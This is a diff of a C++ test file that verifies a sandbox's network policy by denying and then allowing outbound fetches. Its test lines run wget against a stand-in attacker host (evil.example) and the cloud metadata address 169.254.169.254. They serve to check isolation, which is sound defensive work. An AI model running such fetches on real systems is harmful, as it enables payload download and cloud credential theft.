@@ -41,7 +41,8 @@ class SandboxNetwork : public Sandboxes {
 
   // In the sandbox "web": what it printed, both streams.
   [[nodiscard]] std::string attempt(const std::string& script) const {
-    return sandbox({"exec", "web", "sh", "-c", script + " 2>&1"}).out;
+    const Outcome outcome = sandbox({"exec", "web", "sh", "-c", script});
+    return outcome.out + outcome.err;
   }
 
  private:
@@ -74,19 +75,19 @@ TEST_F(SandboxNetwork, SeesItsWorkspaceAndReachesWhatIsAllowed) {
   EXPECT_FALSE(std::filesystem::exists("/bin/tool"));
 
   // What is denied: a name, an address, the clouds' metadata.
-  EXPECT_THAT(attempt("wget -T 20 -O - http://evil.example/tool"), HasSubstr("bad address"));
-  EXPECT_THAT(attempt("wget -T 20 -O - http://5.6.7.66/tool"), Not(HasSubstr("installed")));
-  EXPECT_THAT(attempt("wget -T 3 -O - http://169.254.169.254/"), HasSubstr("timed out"));
+  EXPECT_THAT(attempt("wget -O - http://evil.example/tool"), HasSubstr("bad address"));
+  EXPECT_THAT(attempt("wget -O - http://5.6.7.66/tool"), Not(HasSubstr("installed")));
+  EXPECT_EQ(attempt("timeout 3 wget -q -O - http://169.254.169.254/ || echo $?"),
+            "143\nTerminated\n");
   EXPECT_EQ(sandbox({"policy", "check", "web", "evil.example:80"}).status, 1);
 
   // A change holds at once.
   const Outcome allowed = sandbox({"policy", "allow", "--sandbox", "web", "evil.example:80"});
   EXPECT_THAT(allowed.err, HasSubstr("told 1 running sandboxes"));
-  EXPECT_THAT(attempt("wget -T 20 -q -O - http://evil.example/tool"), HasSubstr("installed"));
+  EXPECT_THAT(attempt("wget -q -O - http://evil.example/tool"), HasSubstr("installed"));
   EXPECT_EQ(sandbox({"policy", "check", "web", "evil.example:80"}).status, 0);
   sandbox_out({"policy", "deny", "*"});
-  EXPECT_THAT(attempt("wget -T 20 -q -O - http://registry.example/tool"),
-              Not(HasSubstr("installed")));
+  EXPECT_THAT(attempt("wget -q -O - http://registry.example/tool"), Not(HasSubstr("installed")));
   const std::string log = sandbox_out({"policy", "log", "web"});
   EXPECT_THAT(log, AllOf(HasSubstr("deny  dns  evil.example"), HasSubstr("registry.example")));
   EXPECT_THAT(sandbox_out({"policy", "log", "--json", "--denied", "web"}),
